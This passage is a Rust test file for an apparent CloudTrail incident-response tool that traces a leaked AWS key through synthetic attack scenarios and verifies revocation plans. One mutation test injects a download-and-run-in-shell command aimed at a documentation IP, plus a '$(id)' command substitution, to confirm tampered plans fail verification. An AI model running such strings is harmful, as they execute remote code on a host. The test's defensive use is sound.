//! Known-answer incidents, built record by record ([`trailhound::gen::scenario`]), for the
//! rules of SPEC §6 and §9: the answer of each follows from the IAM facts (F-numbers in
//! docs/revocation-facts.md) by hand.

use crate::util::*;
use serde_json::{json, Value};
use tempfile::TempDir;
use trailhound::gen::scenario::{Cred, Scenario};

/// 2024-03-11T10:00:00Z
const T0: i64 = 1_710_151_200;
const CUT: &str = "2024-03-11T11:00:00Z";
const MAIN: &str = "111122223333";
const SECOND: &str = "444455556666";
const THIRD: &str = "123456789012";
const LEAKED: &str = "AKIAIOSFODNN7EXAMPLE";

fn write(s: &Scenario, skip: &[&str]) -> TempDir {
    let d = TempDir::new().unwrap();
    s.write(&d.path().join("trail"), skip).unwrap();
    d
}

fn run(args: &[&str], d: &TempDir) -> (i32, Value, String) {
    let o = bin().args(args).arg("--no-progress").arg(d.path().join("trail")).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr).to_string();
    let v = if o.stdout.starts_with(b"{") { json(&o.stdout) } else { Value::Null };
    (o.status.code().unwrap(), v, err)
}

fn plan(d: &TempDir, key: &str, strategy: &str) -> Value {
    let (code, p, err) =
        run(&["plan", "--key", key, "--strategy", strategy, "--effective-at", CUT], d);
    assert_eq!(code, 0, "{err}");
    p
}

/// A plan that leaves `routes` calls of tainted credentials on routes the taint does not
/// follow (NOT FOLLOWED review items): `plan` exits 1 and counts them.
fn plan_with_routes(d: &TempDir, key: &str, routes: u64) -> Value {
    let (code, p, err) = run(&["plan", "--key", key, "--effective-at", CUT], d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["routes_not_followed"], routes, "{}", p["summary"]);
    p
}

/// `verify` of `plan` (written to a file) against the trail: exit code and JSON.
fn verify(d: &TempDir, plan: &Value) -> (i32, Value) {
    let p = d.path().join("plan.json");
    std::fs::write(&p, serde_json::to_vec_pretty(plan).unwrap()).unwrap();
    let (code, v, err) = run(&["verify", "--format", "json", "--plan", p.to_str().unwrap()], d);
    assert!(v.is_object(), "{err}");
    (code, v)
}

/// The notes of a plan of the leaked key over `s` at the cut-off (whatever its exit code).
fn plan_notes(s: &Scenario) -> Vec<String> {
    plan_notes_in(&write(s, &[]))
}

/// [`plan_notes`] over the trail written in `d`.
fn plan_notes_in(d: &TempDir) -> Vec<String> {
    let (_, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], d);
    assert!(p.is_object(), "{err}");
    p["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap().to_string()).collect()
}

fn actions<'a>(p: &'a Value, kind: &str) -> Vec<&'a Value> {
    p["actions"].as_array().unwrap().iter().filter(|a| a["type"] == kind).collect()
}

/// The reasons the plan's review items give, in its order.
fn review_reasons(p: &Value) -> Vec<&str> {
    actions(p, "review").iter().map(|a| a["reason"].as_str().unwrap()).collect()
}

/// Exactly one review item is a route not followed that `call` opened, naming `named`.
fn assert_one_route(reviews: &[&str], call: &str, named: &str) {
    let want = format!("{call} {named} at ");
    let n = reviews
        .iter()
        .filter(|r| r.starts_with(&want) && r.contains("NOT FOLLOWED by the taint"))
        .count();
    assert_eq!(n, 1, "{want}: {reviews:?}");
}

/// The access keys the plan deactivates.
fn deactivated(p: &Value) -> Vec<&str> {
    actions(p, "deactivate_access_key")
        .iter()
        .map(|a| a["access_key_id"].as_str().unwrap())
        .collect()
}

fn principals(p: &Value, kind: &str) -> Vec<String> {
    actions(p, kind).iter().map(|a| a["principal_arn"].as_str().unwrap().to_string()).collect()
}

fn tainted_ids(d: &TempDir, key: &str) -> Vec<String> {
    let (_, b, err) = run(&["blast", "--format", "json", "--key", key], d);
    assert!(b.is_object(), "{err}");
    b["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap().to_string())
        .collect()
}

/// The leaked key of `ci-deployer` assumes AdminRole (12 h) and DeployRole (1 h), both live
/// at the cut-off.
fn two_roles() -> (Scenario, String, String) {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let admin = s.assume_role(
        &leaked,
        T0 + 60,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "ci",
        43_200,
    );
    let deploy = s.assume_role(
        &leaked,
        T0 + 120,
        &format!("arn:aws:iam::{MAIN}:role/DeployRole"),
        "d",
        3600,
    );
    s.call(&admin, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&deploy, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    (s, admin.node_id(), deploy.node_id())
}

#[test]
fn verify_is_independent_of_the_plans_own_claims_and_commands() {
    let (s, admin, _) = two_roles();
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "the tool's own plan verifies: {v}");

    // 1. Remove AdminRole's deny and call its session unrevocable: FAIL.
    let mut m = p.clone();
    m["actions"]
        .as_array_mut()
        .unwrap()
        .retain(|a| !a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")));
    m["unrevocable"] = json!([{"credential": admin, "principal_arn": null, "reason": "trust me", "valid_until": null}]);
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "{v}");
    assert!(v["not_covered"].as_array().unwrap().iter().any(|s| s["session"] == admin.as_str()));

    // 2. Remove the leaked key's deactivation and call the key unrevocable: FAIL.
    let mut m = p.clone();
    m["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "deactivate_access_key");
    m["unrevocable"] = json!([{"credential": LEAKED, "principal_arn": null, "reason": "trust me", "valid_until": null}]);
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["keys_left_active"], json!([LEAKED]));

    // 3. Commands that do something else than their action: each is a FAIL.
    type Mutation = Box<dyn Fn(&mut Value)>;
    let mutations: Vec<(&str, Mutation)> = vec![
        (
            "another role",
            Box::new(|a: &mut Value| {
                let c = a["command"]
                    .as_str()
                    .unwrap()
                    .replace("--role-name AdminRole", "--role-name SomeOtherRole");
                a["command"] = json!(c);
            }),
        ),
        ("another account", Box::new(|a: &mut Value| a["account_id"] = json!(SECOND))),
        (
            "another policy document",
            Box::new(|a: &mut Value| {
                let c = a["command"]
                    .as_str()
                    .unwrap()
                    .replace("2024-03-11T11:00:00Z", "2024-03-11T09:00:00Z");
                a["command"] = json!(c);
            }),
        ),
        (
            "a second command",
            Box::new(|a: &mut Value| {
                let c =
                    format!("{}; curl http://203.0.113.9/x | sh", a["command"].as_str().unwrap());
                a["command"] = json!(c);
            }),
        ),
        (
            "an expansion",
            Box::new(|a: &mut Value| {
                let c = a["command"]
                    .as_str()
                    .unwrap()
                    .replace("--role-name AdminRole", "--role-name \"$(id)\"");
                a["command"] = json!(c);
            }),
        ),
    ];
    for (what, f) in &mutations {
        let mut m = p.clone();
        for a in m["actions"].as_array_mut().unwrap() {
            if a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")) {
                f(a);
            }
        }
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{what}: {v}");
        assert!(!v["command_problems"].as_array().unwrap().is_empty(), "{what}: {v}");
    }
    // The key id in the deactivation command.
    let mut m = p.clone();
    for a in m["actions"].as_array_mut().unwrap() {
        if a["type"] == "deactivate_access_key" {
            let c = a["command"].as_str().unwrap().replace(LEAKED, "AKIAIOSFODNN7EXAMPLF");
            a["command"] = json!(c);
        }
    }
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["keys_left_active"], json!([LEAKED]), "{v}");

    // 4. A second put of the same policy name replaces the first (IAM semantics).
    let mut m = p.clone();
    let acts = m["actions"].as_array_mut().unwrap();
    let admin_put = acts
        .iter()
        .find(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")))
        .unwrap()
        .clone();
    let mut weak = admin_put.clone();
    let doc = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"DateLessThan": {"aws:TokenIssueTime": "2020-01-01T00:00:00Z"}}}]});
    weak["policy_document"] = doc.clone();
    weak["command"] = json!(format!(
        "aws iam put-role-policy --role-name AdminRole --policy-name {} --policy-document '{}'",
        admin_put["policy_name"].as_str().unwrap(),
        serde_json::to_string(&doc).unwrap()
    ));
    weak["order"] = json!(999);
    acts.push(weak);
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "a later weaker policy of the same name wins: {v}");
}

/// The times of a hand-edited plan: a cut-off that is not a time is a fatal error (exit 2)
/// naming the field and the value; the plan's informational times (`generated_at`, the
/// credentials' issue and expiry times) are not read by `verify`, so a bad value there
/// changes nothing.
#[test]
fn verify_names_a_bad_cut_off_and_ignores_informational_times() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let mut m = p.clone();
    m["effective_at"] = json!("next tuesday");
    let path = d.path().join("plan.json");
    std::fs::write(&path, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
    let (code, _, err) = run(&["verify", "--format", "json", "--plan", path.to_str().unwrap()], &d);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("plan effective_at \"next tuesday\" is not a timestamp"), "{err}");

    let mut m = p.clone();
    m["generated_at"] = json!("whenever");
    m["inputs"]["first_event"] = json!("?");
    for c in m["tainted"]["credentials"].as_array_mut().unwrap() {
        c["issued_at"] = json!("unknown");
        c.as_object_mut().unwrap().remove("expires_at");
    }
    m["inputs"].as_object_mut().unwrap().remove("last_event");
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["effective_at"], CUT);
    // Another notation of the same cut-off reads as that time.
    let mut m = p.clone();
    m["effective_at"] = json!("2024-03-11T12:00:00+01:00");
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["effective_at"], CUT);
}

#[test]
fn only_what_root_itself_minted_is_root_derived() {
    let mut s = Scenario::new();
    let root = s.root_key(MAIN, LEAKED);
    s.create_user(&root, T0, "helper");
    let k = s.create_access_key(&root, T0 + 10, Some("helper"));
    let role =
        s.assume_role(&k, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/OpsRole"), "ops", 3600);
    s.call(&role, T0 + 30, "ec2.amazonaws.com", "DescribeInstances", Value::Null);
    let gst = s.get_session_token(&root, T0 + 40, 3600);
    s.call(&gst, T0 + 50, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // A second key of root's own.
    let second = s.create_access_key(&root, T0 + 60, None);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    // The backdoor key is deactivated, the role session denied on its role.
    let keys: Vec<&str> = deactivated(&p);
    assert_eq!(keys, vec![k.key.as_str()], "{p}");
    assert!(
        principals(&p, "put_role_policy").contains(&format!("arn:aws:iam::{MAIN}:role/OpsRole")),
        "{p}"
    );
    // Root's own key and root's GetSessionToken session are the unrevocable ones.
    let unrev: Vec<&str> = p["unrevocable"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["credential"].as_str().unwrap())
        .collect();
    assert!(unrev.contains(&LEAKED) && unrev.contains(&gst.node_id().as_str()), "{unrev:?}");
    assert!(unrev.contains(&second.key.as_str()), "{unrev:?}");
    assert!(
        !unrev.contains(&role.node_id().as_str()) && !unrev.contains(&k.key.as_str()),
        "{unrev:?}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["unrevocable"].as_array().unwrap().len(), 3, "{v}");
    // The table counts root's keys with the keys, not as sessions (a review found "3 tainted
    // sessions: 1 covered, 3 unrevocable", and "0 left active" beside the leaked root key).
    let mut o = bin();
    o.args(["verify", "--no-progress", "--plan"]).arg(d.path().join("plan.json"));
    let table = String::from_utf8(o.arg(d.path().join("trail")).output().unwrap().stdout).unwrap();
    let head = table.lines().next().unwrap();
    assert!(head.contains(" 1 unrevocable;"), "{head}");
    assert!(head.contains("0 left active, 2 root key(s) unrevocable (still Active);"), "{head}");
    // Root's keys do not expire on their own: no end is shown for them.
    for key in [LEAKED, second.key.as_str()] {
        let found = v["unrevocable"].as_array().unwrap().iter().find(|u| u["session"] == key);
        assert_eq!(found.map(|u| &u["valid_until"]), Some(&Value::Null), "{v}");
    }
    // Without the deactivation and deletion of the key root made for helper, DeleteUser
    // fails and plan.sh puts helper's deny-all back, which still cuts the key; without
    // helper's deletion too, its deny-all is removed and nothing cuts the key.
    let mut m = p.clone();
    m["actions"].as_array_mut().unwrap().retain(|a| a["access_key_id"] != k.key.as_str());
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 0, "{v}");
    assert!(v["notes"].to_string().contains("plan.sh then puts its deny-all"), "{v}");
    m["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "delete_user");
    assert_eq!(verify(&d, &m).0, 1);
}

#[test]
fn an_attacker_made_user_its_console_session_and_its_key_are_tainted_and_removed_in_order() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin =
        s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "ci", 900);
    s.create_user(&admin, T0 + 60, "backdoor");
    s.create_login_profile(&admin, T0 + 70, "backdoor");
    s.attach_user_policy(
        &admin,
        T0 + 80,
        "backdoor",
        "arn:aws:iam::aws:policy/AdministratorAccess",
    );
    // Later, by the console: nothing of this is signed by a credential the leaked key issued.
    let console = s.console_login(MAIN, T0 + 1800, "backdoor");
    s.call(&console, T0 + 1810, "iam.amazonaws.com", "ListUsers", Value::Null);
    let key = s.create_access_key(&console, T0 + 1820, None);
    s.call(&key, T0 + 1900, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // An unrelated user signs in too: untouched.
    let other = s.console_login(MAIN, T0 + 1850, "alice");
    s.call(&other, T0 + 1860, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&console.node_id()), "console session: {tainted:?}");
    assert!(tainted.contains(&key.key), "key from the console: {tainted:?}");
    assert!(!tainted.contains(&other.node_id()), "{tainted:?}");

    let p = plan(&d, LEAKED, "strict");
    assert_eq!(p["attacker_users"][0]["user_name"], "backdoor", "{p}");
    let put = actions(&p, "put_user_policy");
    let deny_all = put
        .iter()
        .find(|a| a["principal_arn"] == format!("arn:aws:iam::{MAIN}:user/backdoor"))
        .expect("deny-all on the user");
    assert_eq!(deny_all["policy_name"], "TrailhoundDenyAll");
    assert!(
        deny_all["policy_document"]["Statement"][0].get("Condition").is_none(),
        "denies long-term keys too"
    );
    let keys: Vec<&str> = deactivated(&p);
    assert!(keys.contains(&key.key.as_str()) && keys.contains(&LEAKED), "{keys:?}");
    // The removal order DeleteUser needs.
    let order: Vec<&str> = p["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["user_name"] == "backdoor")
        .map(|a| a["type"].as_str().unwrap())
        .collect();
    assert_eq!(
        order,
        vec![
            "deactivate_access_key",
            "delete_login_profile",
            "delete_access_key",
            "detach_user_policy",
            "delete_user_policy",
            "delete_user"
        ],
        "{p}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert!(
        v["covered"].as_array().unwrap().iter().any(|c| c["session"] == console.node_id().as_str()),
        "{v}"
    );
}

/// Rewrites `from` as `to` in every string of every record so far (a path put in the ARNs).
fn rewrite(s: &mut Scenario, from: &str, to: &str) {
    s.edit_records(|_, r| {
        let text = serde_json::to_string(&*r).unwrap().replace(from, to);
        *r = serde_json::from_str(&text).unwrap();
    });
}

/// An IAM path may hold `:user/` (any character from `!` to `~`): the name of a user (or
/// role) is the last segment of its ARN, never the text before a later `:user/`. A review:
/// the attacker's user `backdoor` made under the path `/x:user/y/` read as user `x`, so its
/// console session and the role it assumed were not tainted (verify OK, the role's session
/// alive); a user moved to `/ci-deployer:user/x/` read as the leaked key's own user, and its
/// session's deny went on `ci-deployer`.
#[test]
fn a_path_holding_user_names_no_other_user() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 60, "backdoor");
    s.create_login_profile(&leaked, T0 + 70, "backdoor");
    let console = s.console_login(MAIN, T0 + 300, "backdoor");
    let admin = s.assume_role(
        &console,
        T0 + 360,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "b",
        3600,
    );
    s.call(&admin, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // A user the leaked key makes a key for, whose ARN's path names the leaked key's user.
    let key = s.create_access_key(&leaked, T0 + 500, Some("ops-admin"));
    let gst = s.get_session_token(&key, T0 + 600, 12 * 3600);
    s.call(&gst, T0 + 660, "s3.amazonaws.com", "ListBuckets", Value::Null);
    rewrite(&mut s, "user/backdoor", "user/x:user/y/backdoor");
    rewrite(&mut s, "user/ops-admin", "user/ci-deployer:user/x/ops-admin");
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for c in [&console, &admin, &gst] {
        assert!(tainted.contains(&c.node_id()), "{} not tainted: {tainted:?}", c.node_id());
    }
    let p = plan(&d, LEAKED, "strict");
    let covering = |id: &str| -> Vec<String> {
        p["actions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["covers"].as_array().is_some_and(|c| c.iter().any(|x| x == id)))
            .map(|a| a["principal_arn"].as_str().unwrap_or("").to_string())
            .collect()
    };
    assert_eq!(covering(&admin.node_id()), [format!("arn:aws:iam::{MAIN}:role/AdminRole")]);
    assert_eq!(
        covering(&gst.node_id()),
        [format!("arn:aws:iam::{MAIN}:user/ci-deployer:user/x/ops-admin")],
        "{p}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    let covered: Vec<&str> =
        v["covered"].as_array().unwrap().iter().filter_map(|c| c["session"].as_str()).collect();
    for c in [&console, &admin, &gst] {
        assert!(covered.contains(&c.node_id().as_str()), "{}: {v}", c.node_id());
    }
}

/// A credential's facts come from its earliest call, not from the call stored first: a later
/// call whose `sessionIssuer` names another role (a service-linked one, or root), stored first
/// in its file, gave the session that role, and the same records in another order another
/// plan (a review: the session listed unrevocable, nothing denied, verify OK).
#[test]
fn a_sessions_facts_do_not_depend_on_the_order_its_calls_are_stored_in() {
    let role_a = format!("arn:aws:iam::{MAIN}:role/RoleA");
    let odd_issuers = [
        format!("arn:aws:iam::{MAIN}:role/aws-service-role/ops.amazonaws.com/RoleZ"),
        format!("arn:aws:iam::{MAIN}:role/RoleZ"),
    ];
    for odd_issuer in &odd_issuers {
        let mut plans = Vec::new();
        for odd_first in [true, false] {
            let mut s = Scenario::new();
            let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
            let a = s.assume_role(&leaked, T0 + 60, &role_a, "s", 3600);
            // The call at 10:06:40 names the odd issuer; stored first or second.
            let times = if odd_first { [T0 + 400, T0 + 300] } else { [T0 + 300, T0 + 400] };
            for at in times {
                s.call(&a, at, "s3.amazonaws.com", "ListBuckets", Value::Null);
            }
            s.edit_records(|_, r| {
                if r["eventTime"] == "2024-03-11T10:06:40Z" {
                    r["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] = json!(odd_issuer);
                }
            });
            let d = write(&s, &[]);
            let p = plan(&d, LEAKED, "strict");
            let denied: Vec<String> = actions(&p, "put_role_policy")
                .iter()
                .filter(|x| {
                    x["covers"]
                        .as_array()
                        .is_some_and(|c| c.iter().any(|i| i == a.node_id().as_str()))
                })
                .map(|x| x["principal_arn"].as_str().unwrap().to_string())
                .collect();
            assert_eq!(denied, [role_a.as_str()], "{odd_issuer}, odd call first {odd_first}: {p}");
            let (code, v) = verify(&d, &p);
            assert_eq!(code, 0, "{v}");
            plans.push(p["actions"].clone());
        }
        assert_eq!(plans[0], plans[1], "{odd_issuer}");
    }
}

/// Two calls of one session in one second (CloudTrail's times are whole seconds), naming two
/// issuers, in two files: the plan is the same whichever file holds which (the earlier by
/// `eventID`), where the file that sorted first decided it (a review).
#[test]
fn calls_of_one_second_in_two_files_give_one_plan_whichever_file_holds_which() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let a = s.assume_role(&leaked, T0 + 60, &format!("arn:aws:iam::{MAIN}:role/RoleA"), "s", 3600);
    s.call(&a, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&a, T0 + 300, "s3.amazonaws.com", "ListObjects", Value::Null);
    s.edit_records(|_, r| {
        if r["eventName"] == "ListObjects" {
            r["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] =
                json!(format!("arn:aws:iam::{MAIN}:role/RoleZ"));
        }
    });
    let d = write(&s, &[]);
    let file = crate::util::files_under(&d.path().join("trail"))[0].clone();
    let mut text = Vec::new();
    trailhound::ingest::decompress::gunzip_into(
        &std::fs::read(&file).unwrap(),
        &mut text,
        u64::MAX,
    )
    .unwrap();
    let v: Value = serde_json::from_slice(&text).unwrap();
    let (calls, rest): (Vec<Value>, Vec<Value>) = v["Records"]
        .as_array()
        .unwrap()
        .iter()
        .cloned()
        .partition(|r| r["eventTime"] == "2024-03-11T10:05:00Z");
    assert_eq!(calls.len(), 2);
    let dir = format!("trail/AWSLogs/{MAIN}/CloudTrail/us-east-1/2024/03/11");
    let records = |r: &[Value]| crate::util::gz(json!({ "Records": r }).to_string().as_bytes());
    let mut plans = Vec::new();
    for (first, second) in [(0, 1), (1, 0)] {
        let t = TempDir::new().unwrap();
        crate::util::write(t.path(), &format!("{dir}/{MAIN}_rest.json.gz"), &records(&rest));
        let one = std::slice::from_ref(&calls[first]);
        crate::util::write(t.path(), &format!("{dir}/{MAIN}_aaaa.json.gz"), &records(one));
        let other = std::slice::from_ref(&calls[second]);
        crate::util::write(t.path(), &format!("{dir}/{MAIN}_bbbb.json.gz"), &records(other));
        plans.push(plan(&t, LEAKED, "strict")["actions"].clone());
    }
    assert_eq!(plans[0], plans[1]);
}

#[test]
fn a_taken_over_user_is_denied_but_not_deleted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice_key = s.user_key(MAIN, "alice", "AKIAEXAMPLEALICE0001");
    s.call(&alice_key, T0 - 3600, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let admin =
        s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "ci", 900);
    s.update_login_profile(&admin, T0 + 60, "alice");
    let console = s.console_login(MAIN, T0 + 600, "alice");
    s.call(&console, T0 + 610, "iam.amazonaws.com", "ListUsers", Value::Null);
    s.call(&alice_key, T0 + 700, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&console.node_id()), "{tainted:?}");
    assert!(
        !tainted.contains(&alice_key.key),
        "alice's own older key is not the attacker's: {tainted:?}"
    );
    let p = plan(&d, LEAKED, "strict");
    assert!(
        principals(&p, "put_user_policy").contains(&format!("arn:aws:iam::{MAIN}:user/alice")),
        "{p}"
    );
    assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{p}");
    assert!(actions(&p, "delete_user").is_empty(), "a pre-existing user is left to a human: {p}");
    assert!(actions(&p, "review")
        .iter()
        .any(|a| a["reason"].as_str().unwrap().contains("existed before the incident")));
    assert_eq!(verify(&d, &p).0, 0);
}

#[test]
fn identity_center_and_service_linked_roles_are_known_by_path_not_name() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let fake = s.assume_role(
        &leaked,
        T0,
        &format!("arn:aws:iam::{MAIN}:role/AWSReservedSSO_Backdoor"),
        "x",
        7200,
    );
    let sso = s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{MAIN}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Admin_0123456789abcdef"), "y", 7200);
    let slr = s.assume_role(&leaked, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/aws-service-role/support.amazonaws.com/AWSServiceRoleForSupport"), "z", 7200);
    let named = s.assume_role(
        &leaked,
        T0 + 30,
        &format!("arn:aws:iam::{MAIN}:role/AWSServiceRoleForFake"),
        "w",
        7200,
    );
    for c in [&fake, &sso, &slr, &named] {
        s.call(c, T0 + 100, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    }
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let denied = principals(&p, "put_role_policy");
    assert!(
        denied.contains(&format!("arn:aws:iam::{MAIN}:role/AWSReservedSSO_Backdoor")),
        "{denied:?}"
    );
    assert!(
        denied.contains(&format!("arn:aws:iam::{MAIN}:role/AWSServiceRoleForFake")),
        "{denied:?}"
    );
    let unrev: Vec<&str> = p["unrevocable"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["credential"].as_str().unwrap())
        .collect();
    assert_eq!(unrev.len(), 2, "{unrev:?}");
    assert!(unrev.contains(&sso.node_id().as_str()) && unrev.contains(&slr.node_id().as_str()));
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    // Drop the deny of the role that only looks like Identity Center: FAIL.
    let mut m = p.clone();
    m["actions"].as_array_mut().unwrap().retain(|a| {
        !a["principal_arn"].as_str().is_some_and(|x| x.ends_with("AWSReservedSSO_Backdoor"))
    });
    assert_eq!(verify(&d, &m).0, 1);
}

#[test]
fn a_federated_session_seen_only_in_use_is_denied_on_its_user() {
    let mut s = Scenario::new();
    let user = s.user_key(MAIN, "contractor-admin", "AKIAEXAMPLECONTRACT1");
    // GetFederationToken happened before the trail: only the session's own calls are here.
    let key = "ASIAEXAMPLEFEDERATE1";
    let fed = s.federated_session(&user, key, "vendor", T0 - 600, T0 + 36_000);
    for i in 0..4 {
        s.call(&fed, T0 + 60 * i, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    let d = write(&s, &[]);
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, key, strategy);
        assert!(p["unrevocable"].as_array().unwrap().is_empty(), "{p}");
        let put = actions(&p, "put_user_policy");
        assert_eq!(put.len(), 1, "{p}");
        assert_eq!(put[0]["principal_arn"], format!("arn:aws:iam::{MAIN}:user/contractor-admin"));
        if strategy == "surgical" {
            let ids =
                &put[0]["policy_document"]["Statement"][0]["Condition"]["StringLike"]["aws:userid"];
            assert_eq!(ids, &json!([format!("{MAIN}:vendor")]), "F9: account:name");
        }
        assert_eq!(verify(&d, &p).0, 0);
    }
}

#[test]
fn a_chain_through_missing_logs_is_noted_and_inferred_only_when_unique() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let b = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
    // B's session touches A's bucket: visible from A's side, though B's logs are missing.
    s.get_object(&b, T0 + 60, MAIN, "corp-data", "a.csv");
    let c = s.assume_role(&b, T0 + 120, &format!("arn:aws:iam::{THIRD}:role/Deep"), "deep", 3600);
    s.call(&c, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[SECOND]);
    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
    let notes: Vec<&str> =
        g["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
    assert!(
        notes.iter().any(|n| n.contains(&format!("logs of account {SECOND} are not in the trail"))
            && n.contains(&b.node_id())),
        "{notes:?}"
    );
    let edge = g["edges"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["child"] == c.node_id().as_str())
        .expect("edge into C");
    assert_eq!(edge["parent"], b.node_id().as_str(), "{edge}");
    assert_eq!(edge["inferred"], true, "{edge}");
    assert!(notes.iter().any(|n| n.starts_with("inferred link")), "{notes:?}");
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&c.node_id()), "{tainted:?}");
    let (_, bl, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
    assert!(
        bl["notes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n.as_str().unwrap().contains(&format!("collect AWSLogs/{SECOND}/"))),
        "{bl}"
    );

    // Two sessions of B with the same aws:userid alive at the call: either may have made it,
    // so each is linked (inferred), and C is tainted when either is.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let b1 = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
    let b2 =
        s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
    let c = s.assume_role(&b1, T0 + 120, &format!("arn:aws:iam::{THIRD}:role/Deep"), "deep", 3600);
    s.call(&c, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[SECOND]);
    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
    let mut parents: Vec<&str> = g["edges"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["child"] == c.node_id().as_str())
        .inspect(|e| assert_eq!(e["inferred"], true, "{e}"))
        .map(|e| e["parent"].as_str().unwrap())
        .collect();
    parents.sort_unstable();
    let mut want = vec![b1.node_id(), b2.node_id()];
    want.sort_unstable();
    assert_eq!(parents, want);
    assert!(tainted_ids(&d, LEAKED).contains(&c.node_id()));
}

#[test]
fn the_evidence_window_and_the_unseen_tail_are_stated() {
    let (s, admin, deploy) = two_roles();
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let w = &p["evidence_window"][0];
    assert_eq!(w["account_id"], MAIN);
    assert_eq!(w["last_event"], "2024-03-11T10:05:00Z");
    let tail: Vec<&str> = p["unseen_tail"]
        .as_array()
